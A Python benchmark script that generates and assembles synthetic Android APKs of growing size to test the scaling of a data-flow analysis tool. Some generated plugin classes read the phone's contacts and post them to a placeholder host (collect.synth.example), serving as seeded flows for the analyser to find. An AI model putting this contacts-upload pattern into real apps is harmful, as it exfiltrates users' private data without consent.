"""Synthetic APKs at growing sizes, for bench/bench_scale.py: smali generated here, assembled once by apktool.

A template APK is assembled once: classes.dex holds the app (a launcher activity) and a web runtime's plugin
dispatch, `PluginManager.exec(Context, int, String)`, one packed-switch over 2000 plugin classes; every 40th
plugin reads the address book into a static field of a "store" class and hands it to another DEX's store, and
the next plugin posts that field to a server, so the flow search has real flows to follow. classes2.dex is a
filler library (package org.synth.d00): 1500 classes with 40 fields each, read and written by their methods,
short call chains, and a store class whose methods write and read 1000 static fields (the generated code that
makes a flow search ask for the readers of a thousand fields). An APK of n DEX files is the app DEX plus n - 1
copies of the filler, each renamed (org.synth.d01, d02...: other classes, same code) - about 3 MB of DEX each.

    python bench/synth.py OUT_DIR --dex 8            # writes OUT_DIR/synth-8.apk (unsigned)

apktool comes from Debian (``apt-get install apktool``) or https://apktool.org.
"""

from __future__ import annotations

import argparse
import hashlib
import shutil
import subprocess
import tempfile
import zipfile
import zlib
from pathlib import Path

PKG = "org.synth.app"
MANIFEST = f"""<?xml version="1.0" encoding="utf-8" standalone="no"?>
<manifest xmlns:android="http://schemas.android.com/apk/res/android" package="{PKG}">
    <uses-permission android:name="android.permission.INTERNET"/>
    <uses-permission android:name="android.permission.READ_CONTACTS"/>
    <application android:label="Synth">
        <activity android:name="{PKG}.MainActivity" android:exported="true">
            <intent-filter>
                <action android:name="android.intent.action.MAIN"/>
                <category android:name="android.intent.category.LAUNCHER"/>
            </intent-filter>
        </activity>
    </application>
</manifest>
"""
APKTOOL_YML = """!!brut.androlib.meta.MetaInfo
apkFileName: synth.apk
compressionType: false
isFrameworkApk: false
packageInfo:
  forcedPackageId: '127'
  renameManifestPackage: null
sdkInfo:
  minSdkVersion: '21'
  targetSdkVersion: '33'
sharedLibrary: false
sparseResources: false
unknownFiles: {}
usesFramework:
  ids:
  - 1
  tag: null
version: 2.7.0
versionInfo:
  versionCode: '1'
  versionName: '1.0'
"""
WEB = "Lorg/synth/web"
STORE0 = "Lorg/synth/d00/Store;"


def _activity() -> str:
    return f""".class public Lorg/synth/app/MainActivity;
.super Landroid/app/Activity;

.method public constructor <init>()V
    .registers 1
    invoke-direct {{p0}}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 5
    invoke-super {{p0, p1}}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-virtual {{p0}}, Lorg/synth/app/MainActivity;->getIntent()Landroid/content/Intent;
    move-result-object v0
    const-string v1, "action"
    const/4 v2, 0x0
    invoke-virtual {{v0, v1, v2}}, Landroid/content/Intent;->getIntExtra(Ljava/lang/String;I)I
    move-result v1
    const-string v2, "args"
    invoke-virtual {{v0, v2}}, Landroid/content/Intent;->getStringExtra(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v2
    invoke-static {{p0, v1, v2}}, {WEB}/PluginManager;->exec(Landroid/content/Context;ILjava/lang/String;)V
    return-void
.end method
"""


def _plugin_base() -> str:
    return f""".class public abstract {WEB}/Plugin;
.super Ljava/lang/Object;

.method public constructor <init>()V
    .registers 1
    invoke-direct {{p0}}, Ljava/lang/Object;-><init>()V
    return-void
.end method

.method public abstract execute(Landroid/content/Context;Ljava/lang/String;)V
.end method
"""


def _manager(plugins: int) -> str:
    cases = "\n".join(f"    :c{i}\n    new-instance v0, {WEB}/plugins/P{i};\n    goto :run" for i in range(plugins))
    labels = "\n".join(f"        :c{i}" for i in range(plugins))
    return f""".class public {WEB}/PluginManager;
.super Ljava/lang/Object;

.method public static exec(Landroid/content/Context;ILjava/lang/String;)V
    .registers 4
    packed-switch p1, :table
    return-void
{cases}
    :run
    invoke-direct {{v0}}, {WEB}/Plugin;-><init>()V
    invoke-virtual {{v0, p0, p2}}, {WEB}/Plugin;->execute(Landroid/content/Context;Ljava/lang/String;)V
    return-void
    :table
    .packed-switch 0x0
{labels}
    .end packed-switch
.end method
"""


_RESOLVER = "Landroid/content/Context;->getContentResolver()Landroid/content/ContentResolver;"
_QUERY = (
    "Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;"
    "[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;"
)
_READ_CONTACTS = f"""    invoke-virtual {{p1}}, {_RESOLVER}
    move-result-object v0
    sget-object v1, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    const/4 v2, 0x0
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {{v0 .. v5}}, {_QUERY}
    move-result-object v0
    if-eqz v0, :done
    const-string v2, "data1"
    invoke-interface {{v0, v2}}, Landroid/database/Cursor;->getColumnIndex(Ljava/lang/String;)I
    move-result v2
    invoke-interface {{v0, v2}}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v1
    sput-object v1, {STORE0}->f{{field}}:Ljava/lang/String;
    invoke-static {{v1}}, Lorg/synth/d{{copy}}/Store;->fill(Ljava/lang/String;)V
    :done
    return-void
"""

_SEND = f"""    sget-object v0, {STORE0}->f{{field}}:Ljava/lang/String;
    new-instance v1, Ljava/net/URL;
    const-string v2, "https://collect.synth.example/{{n}}"
    invoke-direct {{v1, v2}}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {{v1}}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v1
    check-cast v1, Ljava/net/HttpURLConnection;
    invoke-virtual {{v1}}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v2
    invoke-virtual {{v0}}, Ljava/lang/String;->getBytes()[B
    move-result-object v3
    invoke-virtual {{v2, v3}}, Ljava/io/OutputStream;->write([B)V
    return-void
"""

_ECHO = """    invoke-virtual {p2}, Ljava/lang/String;->length()I
    move-result v0
    invoke-static {v0}, Ljava/lang/Integer;->valueOf(I)Ljava/lang/Integer;
    return-void
"""


def _plugin(i: int, store_fields: int) -> str:
    field = (i * 37) % store_fields
    if i % 40 == 1:
        body = _READ_CONTACTS.replace("{field}", str(field)).replace("{copy}", f"{(i // 40) % 100:02d}")
    elif i % 40 == 2:
        body = _SEND.replace("{field}", str(((i - 1) * 37) % store_fields)).replace("{n}", str(i))
    else:
        body = _ECHO
    return f""".class public {WEB}/plugins/P{i};
.super {WEB}/Plugin;

.method public constructor <init>()V
    .registers 1
    invoke-direct {{p0}}, {WEB}/Plugin;-><init>()V
    return-void
.end method

.method public execute(Landroid/content/Context;Ljava/lang/String;)V
    .registers 8
{body}.end method
"""


def _store(d: str, fields: int) -> str:
    cls = f"Lorg/synth/d{d}/Store;"
    decls = "\n".join(f".field public static f{i}:Ljava/lang/String;" for i in range(fields))
    writes = "\n".join(f"    sput-object p0, {cls}->f{i}:Ljava/lang/String;" for i in range(fields))
    reads = "\n".join(
        f"    sget-object v1, {cls}->f{i}:Ljava/lang/String;\n"
        f"    invoke-virtual {{v0, v1}}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;"
        for i in range(fields)
    )
    return f""".class public {cls}
.super Ljava/lang/Object;

{decls}

.method public static fill(Ljava/lang/String;)V
    .registers 1
{writes}
    return-void
.end method

.method public static dump()Ljava/lang/String;
    .registers 2
    new-instance v0, Ljava/lang/StringBuilder;
    invoke-direct {{v0}}, Ljava/lang/StringBuilder;-><init>()V
{reads}
    invoke-virtual {{v0}}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method
"""


def _ordinary(d: str, c: int, classes: int, fields: int) -> str:
    cls = f"Lorg/synth/d{d}/p{c % 50}/K{c};"
    nxt = f"Lorg/synth/d{d}/p{(c + 1) % classes % 50}/K{(c + 1) % classes};"
    decls = "\n".join(f".field private x{i}:I" for i in range(fields))
    sets = "\n".join(f"    iput p1, p0, {cls}->x{i}:I\n    add-int/lit8 p1, p1, 0x1" for i in range(fields))
    gets = "\n".join(f"    iget v1, p0, {cls}->x{i}:I\n    add-int/2addr v0, v1" for i in range(fields))
    mixes = "\n".join(
        f"    iget v0, p0, {cls}->x{i}:I\n    xor-int/2addr v0, p1\n    iput v0, p0, {cls}->x{(i + 1) % fields}:I"
        for i in range(fields)
    )
    return f""".class public {cls}
.super Ljava/lang/Object;

{decls}

.method public constructor <init>()V
    .registers 1
    invoke-direct {{p0}}, Ljava/lang/Object;-><init>()V
    return-void
.end method

.method public set(I)V
    .registers 2
{sets}
    return-void
.end method

.method public sum()I
    .registers 2
    const/4 v0, 0x0
{gets}
    return v0
.end method

.method public mix(I)V
    .registers 3
{mixes}
    return-void
.end method

.method public label(I)Ljava/lang/String;
    .registers 4
    const-string v0, "k{c}-label"
    invoke-virtual {{p0}}, {cls}->sum()I
    move-result v1
    if-lez p1, :leaf
    new-instance v2, {nxt}
    invoke-direct {{v2}}, {nxt}-><init>()V
    add-int/lit8 p1, p1, -0x1
    invoke-virtual {{v2, p1}}, {nxt}->label(I)Ljava/lang/String;
    move-result-object v0
    :leaf
    return-object v0
.end method
"""


def write_sources(root: Path, classes: int, fields: int, store_fields: int, plugins: int) -> None:
    """apktool sources of the template: the app and web runtime in classes.dex, filler DEX d00 in classes2.dex."""
    (root / "res" / "values").mkdir(parents=True)
    (root / "res" / "values" / "strings.xml").write_text('<?xml version="1.0" encoding="utf-8"?>\n<resources/>\n')
    (root / "AndroidManifest.xml").write_text(MANIFEST)
    (root / "apktool.yml").write_text(APKTOOL_YML)
    app = root / "smali" / "org" / "synth" / "app"
    web = root / "smali" / "org" / "synth" / "web"
    (web / "plugins").mkdir(parents=True)
    app.mkdir(parents=True)
    (app / "MainActivity.smali").write_text(_activity())
    (web / "Plugin.smali").write_text(_plugin_base())
    (web / "PluginManager.smali").write_text(_manager(plugins))
    for i in range(plugins):
        (web / "plugins" / f"P{i}.smali").write_text(_plugin(i, store_fields))
    pkg = root / "smali_classes2" / "org" / "synth" / "d00"
    pkg.mkdir(parents=True)
    (pkg / "Store.smali").write_text(_store("00", store_fields))
    for c in range(classes):
        sub = pkg / f"p{c % 50}"
        sub.mkdir(exist_ok=True)
        (sub / f"K{c}.smali").write_text(_ordinary("00", c, classes, fields))


def template(out: Path, classes: int = 1500, fields: int = 40, store_fields: int = 1000, plugins: int = 2000) -> Path:
    """The template APK, assembled by apktool once and kept in OUT (about a minute on 2 busy cores)."""
    apk = out / f"template-{classes}x{fields}-{store_fields}-{plugins}.apk"
    if apk.is_file():
        return apk
    apktool = shutil.which("apktool")
    if apktool is None:
        raise SystemExit("apktool not found: install it (Debian: apt-get install apktool; or https://apktool.org)")
    out.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory(prefix="synth-") as tmp:
        src = Path(tmp) / "src"
        write_sources(src, classes, fields, store_fields, plugins)
        part = apk.with_suffix(".part")
        subprocess.run([apktool, "b", "-q", "-o", str(part), str(src)], check=True, capture_output=True)
    part.rename(apk)
    return apk


def renamed(dex: bytes, tag: str) -> bytes:
    """The filler DEX with its package org/synth/d00 renamed org/synth/d<tag>: other classes, same layout.

    Every string that names the package starts with the same prefix, and no other string shares it past
    'Lorg/synth/d', so replacing two characters keeps the string table sorted; checksum and signature are
    recomputed.
    """
    assert len(tag) == 2
    out = bytearray(dex.replace(b"Lorg/synth/d00/", f"Lorg/synth/d{tag}/".encode()))
    out[12:32] = hashlib.sha1(out[32:]).digest()
    out[8:12] = zlib.adler32(out[12:]).to_bytes(4, "little")
    return bytes(out)


def build(out: Path, dex_files: int) -> Path:
    """OUT/synth-<dex_files>.apk: the template's app DEX plus dex_files - 1 filler DEX files (kept if built)."""
    apk = out / f"synth-{dex_files}.apk"
    if apk.is_file():
        return apk
    base = template(out)
    part = apk.with_suffix(".part")
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(part, "w", zipfile.ZIP_DEFLATED) as dst:
        filler = src.read("classes2.dex")
        for info in src.infolist():
            if info.filename != "classes2.dex":
                dst.writestr(info.filename, src.read(info.filename))
        for k in range(dex_files - 1):
            dst.writestr(f"classes{k + 2}.dex", renamed(filler, f"{k:02d}") if k else filler)
    part.rename(apk)
    return apk


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("out", type=Path)
    parser.add_argument("--dex", type=int, default=2, help="DEX files, 2 to 101 (default 2)")
    args = parser.parse_args()
    print(build(args.out, args.dex))


if __name__ == "__main__":
    main()
